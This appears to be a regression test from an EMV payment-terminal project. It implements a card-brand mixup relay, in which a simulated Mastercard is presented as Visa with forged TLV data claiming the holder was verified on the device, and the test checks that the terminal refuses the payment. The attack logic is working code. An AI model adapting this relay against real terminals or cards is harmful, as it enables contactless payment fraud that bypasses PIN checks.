"""Attacker: a relay shows a Mastercard as a Visa, whose kernel lets the card say that the holder is verified.

Zinc: application, account number and CA key must be of one scheme; a mixture ends before the holder is verified.
"""

from __future__ import annotations

from pathlib import Path

from emv import apdu as commands
from emv import tlv
from tests.attacks.shim import DONE, GENERATE_AC, GET_PROCESSING_OPTIONS, SELECT
from tests.attacks.shop import Shop, paid
from tools.simulators.card import SimulatedCard

VISA = bytes.fromhex("A0000000031010")
MASTERCARD = bytes.fromhex("A0000000041010")
PPSE = b"2PAY.SYS.DDF01"
PDOL = bytes.fromhex("9F6604 9F0206 9F0306 9F1A02 9505 5F2A02 9A03 9C01 9F3704")
PROFILE = b"\x39\x00"  # of the victim's chip
VERIFIED_ON_DEVICE, TELEPHONE = b"\x00\x80", bytes.fromhex("23700000")


def objects(values: dict[int, bytes]) -> bytes:
    return b"".join(tlv.encode(tag, value) for tag, value in values.items())


class Mixup:
    """Speaks as a Visa application; the cryptogram comes from the victim's Mastercard chip."""

    def __init__(self) -> None:
        self._victim = SimulatedCard.load("mastercard_credit")

    def power_on(self, interface: str) -> bytes:
        return bytes.fromhex("3B8F80018031E06B04310502DD555555555555CE")

    def transmit(self, apdu: bytes) -> bytes:
        if apdu[1] == SELECT:
            return tlv.encode(0x6F, self._directory() if apdu[5:-1] == PPSE else self._application()) + DONE
        assert apdu[1] == GET_PROCESSING_OPTIONS
        return tlv.encode(0x77, objects(self._options(apdu[7:-1]))) + DONE

    def _directory(self) -> bytes:
        entry = objects({0x4F: VISA, 0x50: b"VISA", 0x87: b"\x01"})
        return objects({0x84: PPSE, 0xA5: tlv.encode(0xBF0C, tlv.encode(0x61, entry))})

    def _application(self) -> bytes:
        return objects({0x84: VISA, 0xA5: objects({0x50: b"VISA", 0x9F38: PDOL})})

    def _options(self, asked: bytes) -> dict[int, bytes]:
        victim = self._victim
        victim.power_on("contact")
        for command in (commands.select(MASTERCARD), commands.get_processing_options(b"")):
            assert victim.transmit(command).endswith(DONE)
        cdol1 = asked[4:] + b"\x22" + b"\x3f\x00\x00"
        answer = victim.transmit(bytes((0x80, GENERATE_AC, 0x80, 0x00, len(cdol1))) + cdol1 + b"\x00")
        card = victim.personalisation
        return dict(tlv.objects(answer[:-2])) | {
            0x82: PROFILE,
            0x57: card.track2,
            0x5F34: bytes.fromhex(card.sequence),
            0x9F6C: VERIFIED_ON_DEVICE,
            0x9F6E: TELEPHONE,
        }


async def attack(folder: Path) -> bool:
    async with Shop(folder) as shop:
        return paid(await shop.pay(Mixup(), "contactless", 8000), "card_unreadable", "card_not_accepted")
